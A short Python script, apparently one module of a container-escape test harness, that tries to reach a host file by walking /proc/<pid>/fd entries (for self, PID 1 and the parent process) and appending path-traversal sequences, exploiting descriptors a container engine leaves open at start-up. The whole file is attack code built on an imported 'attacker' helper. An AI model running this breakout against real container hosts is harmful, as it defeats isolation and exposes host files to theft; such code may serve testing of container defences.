"""Climb to the host's files from a descriptor that the engine's start-up left open."""

import os

from attacker import PLAN, hunt

for process in ("self", "1", str(os.getppid())):
    for number in range(64):
        hunt(f"/proc/{process}/fd/{number}{PLAN['host_file']}")
        hunt(f"/proc/{process}/fd/{number}/../../../../../../..{PLAN['host_file']}")
        os.path.lexists(f"/proc/{process}/fd/{number}")
